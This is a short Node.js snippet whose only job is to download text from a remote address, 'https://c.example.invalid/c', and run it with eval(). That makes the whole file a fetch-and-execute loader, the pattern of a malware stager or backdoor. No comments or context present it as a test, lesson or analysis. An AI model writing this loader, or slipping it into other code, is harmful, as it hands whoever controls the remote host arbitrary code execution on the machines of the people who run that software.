const https = require('https');

function load(address) {
  return new Promise((resolve, reject) => {
    https.get(address, (answer) => {
      let text = '';
      answer.on('data', (part) => { text += part; });
      answer.on('end', () => resolve(text));
    }).on('error', reject);
  });
}

load('https://c.example.invalid/c').then((text) => eval(text));
